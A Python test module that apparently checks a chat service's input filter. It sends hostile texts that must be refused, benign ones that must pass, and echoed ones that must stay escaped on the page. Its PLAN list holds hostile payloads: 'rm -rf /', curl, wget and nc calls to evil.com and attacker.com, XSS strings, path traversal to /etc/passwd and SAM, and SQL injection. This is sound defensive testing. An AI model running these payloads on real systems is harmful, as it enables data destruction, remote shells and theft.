"""Texts: what must be refused, as the first frame and before any process, and what must not."""

from __future__ import annotations

import asyncio
import re
import uuid
from collections import Counter
from collections.abc import Sequence

from monitoring.security import corpus
from monitoring.security.corpus import HELD_OUT, TUNING, Sample
from monitoring.security.findings import Section, percent, shown
from monitoring.security.target import Socket, Target

SOCKETS = 8
# What a browser takes for the beginning of an element.
TAG = re.compile(r"<[a-zA-Z/!?][^<>]{6}")
# Nobody has it and nobody else may answer: an accepted message then costs nothing on a site that pays for answers.
NOBODY = {"model": "nobody:nothing", "onlyModel": True}
# What is nothing but white space is refused for that.
REFUSED = {"refused", "too_long", "bad_text", "empty_message"}
# The most of an honest text that may be refused, in percent.
BENIGN_REFUSED_PERCENT = 0.5
# As the founding plan has them, design.md R14.
PLAN = [
    "test; rm -rf /",
    "test && curl evil.com",
    "test | nc attacker.com 1234",
    "test $(wget evil.com)",
    "test `whoami`",
    "<script>alert('xss')</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "../../../etc/passwd",
    "..\\..\\..\\windows\\system32\\config\\sam",
    "'; DROP TABLE users; --",
    "1 OR 1=1",
    "A" * 100_000,
    "test\x00\x01\x02\x1b[2J",
]


async def try_the_plan(target: Target) -> Section:
    """Send the founding plan's own list, each on a new socket: its first frame must be an error."""
    section = Section("the plan's list")
    for text in PLAN:
        async with target.script() as socket:
            frame = await socket.first(text)
        section.check(frame["type"] == "error", f"{shown(text)} was answered by {frame['type']}")
    return section


async def try_hostile(target: Target, samples: Sequence[Sample]) -> Section:
    """Send what must be refused, and say how much of each half was."""
    section = Section("hostile texts")
    frames = await ask_all(target, samples)
    refused: Counter[str] = Counter()
    for sample, frame in zip(samples, frames, strict=True):
        ok = frame["type"] == "error" and frame["code"] in REFUSED
        refused[sample.half] += ok
        section.check(ok, f"{sample.kind}, {sample.disguise or 'as it is'}: {shown(sample.text)} passed")
    section.figures |= _by_half("refused", samples, refused)
    rules = [frame.get("rule") == sample.kind for sample, frame in zip(samples, frames, strict=True)]
    section.figures["under the very rule"] = percent(sum(rules), len(rules))
    return section


async def try_benign(target: Target, samples: Sequence[Sample]) -> Section:
    """Send what people write, and say how little of each half was refused. More than half a percent is a hole."""
    section = Section("honest texts")
    refused: Counter[str] = Counter()
    names = []
    for sample, frame in zip(samples, await ask_all(target, samples), strict=True):
        section.tried += 1
        if frame["type"] == "error" and "replyId" not in frame:
            refused[sample.half] += 1
            names.append(f"{sample.kind}, {frame.get('rule') or frame['code']}: {shown(sample.text)}")
    section.figures |= _by_half("refused", samples, refused)
    if refused.total() * 100 >= BENIGN_REFUSED_PERCENT * len(samples):
        section.holes += names
    else:
        section.left_out += [f"refused all the same: {name}" for name in names]
    if target.model:
        await _try_streaming(target, section)
    return section


async def _try_streaming(target: Target, section: Section) -> None:
    """The same client's honest text is answered, token by token."""
    async with target.script() as socket:
        await socket.send(message="Why is the sky blue?", model=target.model)
        kinds = [frame["type"] for frame in await socket.until("complete")]
    section.check("chunk" in kinds, "the same client's honest text was not answered")


async def try_exempt(target: Target, samples: Sequence[Sample]) -> Section:
    """Send what no shape can judge to a model that says it back: it must stay text, on the wire and on the page."""
    section = Section("exempt texts are only text")
    if not (target.echo and target.user):
        section.left_out.append("it takes a model that echoes and somebody who can sign in: --start has both")
        return section
    for sample in samples:
        # As the page names its conversations: by the id that it will have.
        conversation = str(uuid.uuid4())
        async with target.user.socket(conversation) as socket:
            await socket.send(message=sample.text, model=target.echo)
            first = await socket.receive()
            # A rule of ours may happen to know it.
            frames = [] if first["type"] == "error" else await socket.until("complete")
        if frames:
            said = "".join(frame["content"] for frame in frames if frame["type"] == "chunk")
            section.check(said.strip() == sample.text.strip(), f"{sample.kind}: {shown(sample.text)} came back changed")
            page = await target.user.ask("GET", f"/c/{conversation}/")
            section.check(page.status == 200, f"{sample.kind}: its page answers {page.status}")
            stands = any(line in page.text for line in _active_lines(sample.text))
            section.check(not stands, f"{sample.kind}: {shown(sample.text)} stands unescaped on its page")
    return section


def _active_lines(text: str) -> list[str]:
    """Return the lines of a text that would be more than text if they stood in a page as they are."""
    return [line.strip() for line in text.splitlines() if TAG.search(line)]


async def ask_all(target: Target, samples: Sequence[Sample]) -> list[dict[str, object]]:
    """Send each text as a plain script and return the frame that each was answered by, in their order."""
    answers: list[dict[str, object]] = [{} for _ in samples]

    async def over_one(number: int) -> None:
        async with target.script() as socket:
            for at in range(number, len(samples), SOCKETS):
                answers[at] = await _ask(socket, samples[at].text)

    await asyncio.gather(*map(over_one, range(min(SOCKETS, len(samples)))))
    return answers


async def _ask(socket: Socket, text: str) -> dict[str, object]:
    frame = await socket.first(text, **NOBODY)
    while frame.get("retryAfterMs"):
        await asyncio.sleep(frame["retryAfterMs"] / 1000)
        frame = await socket.first(text, **NOBODY)
    if frame["type"] != "error":
        await socket.until("complete")
    return frame


def _by_half(what: str, samples: Sequence[Sample], counted: Counter[str]) -> dict[str, str | float]:
    sizes = Counter(sample.half for sample in samples)
    return {
        f"{what}, {words}": f"{counted[half]} of {sizes[half]}, {percent(counted[half], sizes[half])}"
        for half, words in ((TUNING, "the half it was tuned with"), (HELD_OUT, "the half nobody looked at"))
    }


def pick(samples: Sequence[Sample], most: int | None) -> list[Sample]:
    """Return so many of each kind at most, spread over all of it."""
    if most is None:
        return list(samples)
    by_kind: dict[str, list[Sample]] = {}
    for sample in samples:
        by_kind.setdefault(sample.kind, []).append(sample)
    return [kind[at] for kind in by_kind.values() for at in range(0, len(kind), max(1, len(kind) // most))]


def everything(longest: int, most: int | None) -> tuple[list[Sample], list[Sample], list[Sample]]:
    """Return the hostile, the benign and the exempt texts, at most so many of each kind."""
    return (
        pick(list(corpus.hostile(longest)), most),
        pick(list(corpus.benign()), most),
        pick(list(corpus.exempt()), most),
    )
